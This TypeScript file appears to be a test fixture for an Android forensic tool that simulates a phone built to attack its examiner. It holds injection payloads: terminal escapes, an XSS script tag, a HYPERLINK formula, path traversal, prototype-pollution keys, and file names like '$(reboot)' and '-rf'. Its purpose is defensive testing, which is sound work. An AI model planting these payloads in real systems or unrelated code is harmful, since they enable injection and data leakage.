import type { Dump, PhoneState } from "../state/phone-state.ts";
import { type AppSpec, origins } from "./app-spec.ts";
import { buildProperties } from "./build-properties.ts";
import { compose } from "./compose.ts";
import { googleApps, googleCommunication, googleCore } from "./google-apps.ts";
import { coreApps, imageApps } from "./image-apps.ts";
import { aospImage, googleImage } from "./image-packages.ts";
import { type BuildOptions, monthsBefore, type PhoneModel } from "./model.ts";
import { logicalMounts } from "./mount-tables.ts";
import { carefulGlobal, carefulSecure } from "./usual-settings.ts";

const day = 86_400_000;

/** Clears the screen, changes the window's title, hides what follows, makes a link. */
const escapes =
  "\u001b[2J\u001b[31mpwned\u001b[0m\u001b]0;title\u0007\u001b]8;;https://example.com\u001b\\link\u001b]8;;\u001b\\";
const html = `<img src=x onerror=alert(1)><script>alert("candor")</script>'"&amp;`;
const formula = `=HYPERLINK("https://example.com/?"&A1,"open")`;
const traversal = "../../../../../../tmp/candor-was-here";
const turned = "\u202egnp.kpa\u2066";
const long = "A".repeat(2_000_000);

/** A phone that attacks the computer that examines it. */
export const hostile: PhoneModel = {
  id: "hostile",
  title: "Phone that attacks its examiner, Android 14",
  about:
    "Every text that a phone can choose is chosen badly: terminal escapes, HTML, spreadsheet formulas, path traversal, prototype keys, " +
    "forged section marks, broken UTF-8, endless lines, and a dump of a gigabyte. Nothing of it may reach a terminal, a page, a table or " +
    "a disk unescaped, and the rest of the report has to be right.",
  android: "14",
  build,
};

function build(options: BuildOptions): PhoneState {
  const now = options.now();
  const state = compose(
    {
      serial: "hostile-0001",
      vendor: "aosp",
      kernel: { release: `6.1.0-${escapes}`, version: `#1 SMP PREEMPT ${html}`, machine: "aarch64" },
      properties: {
        ...build14(now),
        "persist.candor.escape": escapes,
        "persist.candor.html": html,
        "persist.candor.long": long,
        "persist.candor.lines": "first\n[ro.boot.verifiedbootstate]: [green]\n[ro.debuggable]: [0",
        ["__proto__"]: "polluted",
        constructor: "polluted",
        toString: "polluted",
        hasOwnProperty: formula,
      },
      apps: apps(now),
      global: { ...carefulGlobal, ...poison, device_name: escapes },
      secure: {
        ...carefulSecure,
        ...poison,
        enabled_accessibility_services: `com.evil.app/${traversal}:${html}/.Service`,
        default_input_method: formula,
      },
      system: { ...poison, locked_apps: `[{"u":0,"pkgs":["__proto__","${"x".repeat(5000)}"]}]` },
      roles: { SMS: html, DIALER: escapes, HOME: "__proto__", BROWSER: formula },
      keys: [{ line: `QAAAA${"A".repeat(687)}AAEAAQA= ${escapes}${html}`, lastConnection: now }],
      mounts: logicalMounts("ext4"),
      processes: [
        { label: "u:r:untrusted_app:s0", user: "u0_a1", pid: 666, ppid: 812, name: `${escapes}${html}` },
        {
          label: "u:r:untrusted_app:s0",
          user: "u0_a1",
          pid: 667,
          ppid: 812,
          name: `x\nu:r:su:s0 root 668 1 0 0 0 0 S su`,
        },
      ],
      networks: [
        {
          id: 101,
          kind: "VPN",
          interfaceName: "tun0",
          addresses: ["10.0.0.2/32"],
          dns: ["10.0.0.1"],
          ownerUid: 10_049,
          session: `${html},}{[`,
          createdAt: now - 1000,
        },
      ],
    },
    options,
  );
  state.properties.set("__proto__", "polluted");
  for (const table of [state.settings.global, ...state.settings.secure.values()]) table.set("__proto__", "polluted");
  for (const service of ["deviceidle", "notification"]) state.dumps.set(service, gigabyte);
  state.dumps.set("usagestats", forged);
  state.hardware.manner = "floods";
  plantTraps(state);
  return state;
}

/** Keys and values that hurt whoever keeps settings in ordinary objects, or prints them as they are. */
const poison: Readonly<Record<string, string>> = {
  constructor: "polluted",
  prototype: "polluted",
  toString: "polluted",
  candor_escape: escapes,
  candor_formula: formula,
  candor_html: html,
  candor_lines: "value\nadb_enabled=0\nDUMP OF SERVICE package:",
  candor_turned: turned,
};

/** A gigabyte, made while it is read. */
const gigabyte: Dump = function* () {
  yield "Current Notification Manager state:";
  yield "  Notification List:";
  const block = new TextEncoder().encode(
    `    NotificationRecord(0x0: pkg=x user=UserHandle{0} id=1 ${"z".repeat(65_400)}\n`,
  );
  for (let sent = 0; sent < 2 ** 30; sent += block.length) yield block;
};

/** Marks of other services, broken UTF-8, NULs. */
const forged: Dump = function* () {
  yield "-".repeat(79);
  yield* ["DUMP OF SERVICE package:", "Packages:", "  Package [com.android.fake] (0):", "    appId=0"];
  yield new Uint8Array([0xff, 0xfe, 0xc0, 0x80, 0xed, 0xa0, 0x80, 0x00, 0x0a]);
  yield "--------- 0.001s was the duration of dumpsys usagestats, ending at: 2026-01-01 00:00:00";
};

function plantTraps(state: PhoneState): void {
  const shared = "/storage/emulated/0/Download";
  for (const name of [
    escapes.replaceAll("/", "_"),
    html.replaceAll("/", "_"),
    formula.replaceAll("/", "_"),
    "-rf",
    "$(reboot)",
    "a\nb",
    turned,
    "con.txt",
    "__proto__",
  ]) {
    state.files.plant(`${shared}/${name}`, { body: "trap\n", mode: 0o660 });
  }
  state.files.plant(`${shared}/out`, { target: `/${traversal}` });
  state.files.plant(`${shared}/loop`, { target: `${shared}/loop` });
  state.files.plant("/data/misc/user/0/cacerts-added", { mode: 0o755 });
  state.files.plant("/data/misc/user/0/cacerts-added/deadbeef.0\nuser 0", { body: "trap\n" });
  state.files.plant("/system/etc/hosts", { body: `127.0.0.1 localhost\n0.0.0.0 ${html}\n${escapes}\n` });
}

function build14(now: number): Record<string, string> {
  return buildProperties({
    brand: "Evil",
    manufacturer: html,
    model: escapes,
    marketName: formula,
    device: "evil",
    product: "evil",
    android: "14",
    sdk: 34,
    id: "UKQ1.240624.001",
    incremental: traversal,
    patch: monthsBefore(now, 2),
    vendorPatch: "9999-99-99",
    zone: "Europe/Berlin",
    locale: "en-GB",
    hardware: "qcom",
    firstSdk: 34,
    builtAt: now - 90 * day,
  });
}

function apps(now: number): readonly AppSpec[] {
  const named = (name: string, more: Partial<AppSpec> = {}): AppSpec => ({
    name,
    label: `${escapes}${html}`,
    version: `${formula}\u001b[8m`,
    origin: { installer: html, initiating: escapes, originating: "__proto__", source: 4 },
    grants: ["CAMERA", "READ_CONTACTS", "ACCESS_FINE_LOCATION"],
    uses: [{ op: "CAMERA", hours: -5 }],
    ...more,
  });
  return [
    ...imageApps(aospImage, googleImage),
    ...coreApps("system_ext/priv-app/SystemUI"),
    ...googleCore(now, now - 30 * day, now - 60 * day),
    ...googleApps,
    ...googleCommunication,
    named("com.evil.app", { modes: { SYSTEM_ALERT_WINDOW: "allow" } }),
    named("__proto__"),
    named("constructor"),
    named(`com.evil.${"long".repeat(2000)}`),
    named("com.evil.html", { launcher: html, receivers: [[escapes, html]] }),
    named("com.evil.tool", { origin: origins.adb, version: "1\n    userId=0\n    flags=[ SYSTEM ]" }),
  ];
}
